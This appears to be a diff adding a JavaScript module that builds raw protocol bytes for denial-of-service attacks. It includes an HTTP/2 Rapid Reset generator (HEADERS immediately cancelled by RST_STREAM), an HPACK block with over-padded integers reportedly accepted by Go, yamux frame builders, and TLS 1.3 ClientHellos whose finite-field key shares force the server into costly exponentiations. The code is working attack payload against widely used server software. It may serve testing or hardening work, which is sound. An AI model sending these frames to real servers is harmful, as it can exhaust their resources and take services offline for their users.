@@ -1,0 +1,171 @@
+// The bytes of the attacks, made by hand: no library would send them.
+import { randomBytes } from 'node:crypto';
+
+/** RFC 9113 section 3.4, and the empty SETTINGS that must follow it. */
+export const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0)]);
+
+export const BACKCHANNEL_MAGIC = Buffer.from('backchannel');
+
+/** A header block in one byte: `:method: GET` of the static table. */
+export const SMALLEST_BLOCK = Buffer.from([0x82]);
+
+/**
+ * One HTTP/2 frame.
+ * @param {number} type
+ * @param {number} flags
+ * @param {number} streamId
+ * @param {Uint8Array} [payload]
+ */
+export function frame(type, flags, streamId, payload = new Uint8Array()) {
+  const bytes = Buffer.alloc(9 + payload.length);
+  bytes.writeUIntBE(payload.length, 0, 3);
+  bytes.writeUInt8(type, 3);
+  bytes.writeUInt8(flags, 4);
+  bytes.writeUInt32BE(streamId, 5);
+  bytes.set(payload, 9);
+  return bytes;
+}
+
+/** @param {number} value */
+export function uint32(value) {
+  const bytes = Buffer.alloc(4);
+  bytes.writeUInt32BE(value);
+  return bytes;
+}
+
+/**
+ * HEADERS with END_HEADERS.
+ * @param {number} streamId
+ * @param {Uint8Array} [block]
+ */
+export function headers(streamId, block = SMALLEST_BLOCK) {
+  return frame(1, 4, streamId, block);
+}
+
+/**
+ * HEADERS at once followed by RST_STREAM(CANCEL).
+ * @param {number} streamId
+ * @param {Uint8Array} [block]
+ */
+export function rapidReset(streamId, block) {
+  return Buffer.concat([headers(streamId, block), frame(3, 0, streamId, uint32(8))]);
+}
+
+/**
+ * A field without indexing whose value is empty; its length takes seven bytes, six of them padding. Go accepts it.
+ * RFC 7541 section 5.1 sets no limit on the number of bytes.
+ */
+export const PADDED_INTEGER_BLOCK = Buffer.concat([
+  SMALLEST_BLOCK,
+  Buffer.from([0x00, 0x01, 0x61, 0x7f, 0x80, 0x80, 0x80, 0x80, 0x80, 0x00]),
+  Buffer.alloc(127, 'b'),
+]);
+
+/**
+ * Literal fields without indexing.
+ * @param {readonly (readonly [string, string])[]} fields names and values of fewer than 127 bytes
+ */
+export function literals(fields) {
+  return Buffer.concat(
+    fields.flatMap(([name, value]) => [
+      Buffer.from([0x00, name.length]),
+      Buffer.from(name),
+      Buffer.from([value.length]),
+      Buffer.from(value),
+    ]),
+  );
+}
+
+/**
+ * One yamux frame.
+ * @param {number} type
+ * @param {number} flags
+ * @param {number} streamId
+ * @param {number} length
+ * @param {Uint8Array} [payload]
+ */
+export function yamux(type, flags, streamId, length, payload = new Uint8Array()) {
+  const header = Buffer.alloc(12);
+  header.writeUInt8(type, 1);
+  header.writeUInt16BE(flags, 2);
+  header.writeUInt32BE(streamId, 4);
+  header.writeUInt32BE(length, 8);
+  return Buffer.concat([header, payload]);
+}
+
+/**
+ * A yamux data frame that opens its stream.
+ * @param {number} streamId
+ * @param {Uint8Array} payload
+ */
+export function yamuxOpen(streamId, payload) {
+  return yamux(0, 1, streamId, payload.length, payload);
+}
+
+/** RFC 7919: finite-field groups, with the bytes of a key share. */
+const FINITE_FIELD_GROUPS = [
+  { group: 0x0104, bytes: 1024 },
+  { group: 0x0103, bytes: 768 },
+  { group: 0x0102, bytes: 512 },
+  { group: 0x0101, bytes: 384 },
+  { group: 0x0100, bytes: 256 },
+];
+
+/**
+ * A TLS 1.3 ClientHello with a single finite-field group. Any number below the prime is a key share that costs the
+ * server two exponentiations.
+ * @param {number} index which group, the most expensive first
+ */
+export function finiteFieldHello(index) {
+  const { group, bytes } = FINITE_FIELD_GROUPS[index % FINITE_FIELD_GROUPS.length] ?? { group: 0, bytes: 0 };
+  const share = randomBytes(bytes);
+  share.writeUInt8(0x7f, 0);
+  return clientHello([
+    extension(10, vector(2, uint16(group))),
+    extension(51, vector(2, Buffer.concat([uint16(group), vector(2, share)]))),
+  ]);
+}
+
+/** @param {readonly Buffer[]} extensions besides the versions, the signature algorithms and ALPN */
+function clientHello(extensions) {
+  const all = Buffer.concat([
+    extension(43, vector(1, uint16(0x0304))),
+    extension(13, vector(2, Buffer.concat([uint16(0x0403), uint16(0x0804), uint16(0x0401)]))),
+    extension(16, vector(2, vector(1, Buffer.from('h2')))),
+    ...extensions,
+  ]);
+  const body = Buffer.concat([
+    uint16(0x0303),
+    randomBytes(32),
+    vector(1, randomBytes(32)),
+    vector(2, Buffer.concat([uint16(0x1301), uint16(0x1302), uint16(0x1303)])),
+    vector(1, Buffer.from([0])),
+    vector(2, all),
+  ]);
+  const message = Buffer.concat([Buffer.from([1, 0]), vector(2, body)]);
+  return Buffer.concat([Buffer.from([22, 3, 1]), vector(2, message)]);
+}
+
+/**
+ * @param {number} type
+ * @param {Buffer} data
+ */
+function extension(type, data) {
+  return Buffer.concat([uint16(type), vector(2, data)]);
+}
+
+/**
+ * Bytes behind their length.
+ * @param {1 | 2} lengthBytes
+ * @param {Uint8Array} bytes
+ */
+function vector(lengthBytes, bytes) {
+  const length = Buffer.alloc(lengthBytes);
+  length.writeUIntBE(bytes.length, 0, lengthBytes);
+  return Buffer.concat([length, bytes]);
+}
+
+/** @param {number} value */
+function uint16(value) {
+  return Buffer.from([value >>> 8, value & 0xff]);
+}
